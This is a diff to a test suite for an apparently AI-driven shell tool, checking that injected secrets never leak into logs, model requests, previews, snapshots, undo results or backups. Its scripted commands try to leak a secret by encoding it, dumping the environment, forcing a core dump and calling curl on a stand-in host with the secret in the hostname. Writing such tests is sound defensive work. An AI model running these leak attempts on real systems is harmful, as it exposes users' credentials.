@@ -6,8 +6,10 @@ import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
+import { gunzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { AuditList } from '@aish/contracts/audit';
+import type { GoalDetail } from '@aish/contracts/goals';
 import { NetworkPolicy } from '@aish/contracts/network';
 import { Secret, SecretList, SessionSecrets } from '@aish/contracts/secrets';
 import { startScriptedModel, type ScriptedModel } from '@aish/rehearsal';
@@ -31,10 +33,13 @@ const CLEAR = [
   'set -x; echo "$CLEAR" >&2; set +x; printf "%s" "${CLEAR:0:9}"; sleep 0.2; echo "${CLEAR:9}"',
   'printf %s "$CLEAR" | base64 -w 0; echo; printf x%s "$CLEAR" | base64 -w 0; echo; printf %s "$CLEAR" | od -A n -t x1 | tr -d " \\n"; echo',
   'env | grep CLEAR; export COPY="$CLEAR"; curl -sS --noproxy "" "http://${CLEAR//_/-}.example.org/"; no-such-program "$CLEAR"',
+  // What crashes leaves nothing of its memory behind.
+  '(ulimit -c unlimited; sh -c "kill -SEGV \\$\\$") 2>/dev/null; ls | grep core || echo no core',
 ].join('; ');
 
 describe('secrets that commands use', () => {
   const heard: { readonly url: string; readonly authorization: string }[] = [];
+  const previews: string[] = [];
   let server: Server;
   let port: number;
   let certificate: string;
@@ -60,7 +65,13 @@ describe('secrets that commands use', () => {
     model = await startScriptedModel({
       script: plans({
         // The HALT gives the test time to give the secrets to a session that is only now there.
-        use: plan('CMD: rm -rf nothing', `CMD: ${ask.join('; ')}; env; set -x; : "$TOKEN_0"`, 'GOAL: complete'),
+        use: plan(
+          'CMD: rm -rf nothing',
+          `CMD: ${ask.join('; ')}; env; set -x; : "$TOKEN_0"`,
+          'CMD: env > kept; cat kept',
+          'CMD: env; rm kept',
+          'GOAL: complete',
+        ),
         clear: plan(
           'CMD: rm -rf nothing',
           `CMD: ${CLEAR}`,
@@ -99,8 +110,11 @@ describe('secrets that commands use', () => {
     await stack.client.json(SessionSecrets, 'PUT', `${at}/secrets`, { names });
     await stack.client.decide(id, 'proceed');
     for (let now = await stack.client.goal(goal.id); now.state !== 'done'; now = await stack.client.goal(goal.id)) {
-      if (now.state === 'halted') await stack.client.decide((await stack.client.decisionOf(goal.id)).id, 'proceed');
-      else await new Promise((resolve) => setTimeout(resolve, 100));
+      if (now.state === 'halted') {
+        const asked = (await stack.client.decisionOf(goal.id)).id;
+        previews.push(await (await stack.client.request('POST', `/v1/decisions/${asked}/preview`)).text());
+        await stack.client.decide(asked, 'proceed');
+      } else await new Promise((resolve) => setTimeout(resolve, 100));
     }
     return stack.client.goal(goal.id);
   }
@@ -112,7 +126,7 @@ describe('secrets that commands use', () => {
         'use them',
         SECRETS.map(({ name }) => name),
       );
-      const output = goal.actions.at(-1)?.outcome?.output ?? '';
+      const output = goal.actions[1]?.outcome?.output ?? '';
       // Each reached its server, and came back as what it is called here.
       expect(heard).toEqual(SECRETS.map(({ name, value }) => ({ url: `/${name}`, authorization: `Bearer ${value}` })));
       expect(output.match(/you sent Bearer aish-secret-[0-9a-f]{32} to/g)).toHaveLength(50);
@@ -126,8 +140,14 @@ describe('secrets that commands use', () => {
         database: await everyRow(),
         model: JSON.stringify(model.requests),
         logs: logs(),
+        previews: previews.join('\n'),
+        ...(await whatIsKept(goal)),
         ...(await files()),
       };
+      for (const place of ['database', 'story', 'backup', 'before it']) {
+        expect([place, places[place as keyof typeof places]]).toEqual([place, expect.stringContaining('aish-secret-')]);
+      }
+      expect(places.previews).toContain('"removed":{"count":1,');
       for (const [place, text] of Object.entries(places)) {
         for (const { value } of SECRETS) {
           for (const form of [
@@ -140,7 +160,6 @@ describe('secrets that commands use', () => {
           }
         }
       }
-      expect(places.database).toContain('aish-secret-');
     },
     120_000,
   );
@@ -156,11 +175,13 @@ describe('secrets that commands use', () => {
       expect(used).toContain('CLEAR=aish-secret-');
       expect(used?.match(/aish-secret-[0-9a-f]{32}/g)?.length).toBeGreaterThan(6);
       expect(used).toContain('is refused: its name holds a secret');
+      expect(used).toMatch(/no core\n$/);
       expect(after).toBe(`[]\n${createHash('sha256').update(value).digest('hex')}\n`);
       const places = {
         database: await everyRow(),
         model: JSON.stringify(model.requests),
         logs: logs(),
+        ...(await whatIsKept(goal)),
         ...(await files()),
       };
       const bytes = Buffer.from(value);
@@ -228,6 +249,22 @@ describe('secrets that commands use', () => {
     },
     120_000,
   );
+
+  /** What people can fetch of a goal: its story with effects, its snapshots, its files now and before, a backup of all. */
+  async function whatIsKept({ id, sessionId, actions }: GoalDetail): Promise<Record<string, string>> {
+    const fetched = async (path: string, method = 'GET') => {
+      const response = await stack.client.request(method, path);
+      if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
+      return Buffer.from(await response.arrayBuffer());
+    };
+    const archive = async () => (await fetched(`/v1/sessions/${sessionId}/files/archive?path=`)).toString('latin1');
+    const now = await archive();
+    const story = (await fetched(`/v1/goals/${id}`)).toString();
+    const snapshots = (await fetched(`/v1/goals/${id}/snapshots`)).toString();
+    const undone = (await fetched(`/v1/actions/${actions.at(-1)?.id}/undo`, 'POST')).toString();
+    const backup = gunzipSync(await fetched(`/v1/backup?workspaces=${sessionId}`)).toString('latin1');
+    return { workspace: now, story, snapshots, undone, 'before it': await archive(), backup };
+  }
 
   const logs = () => stack.services.map((service) => service.log).join('\n');
 
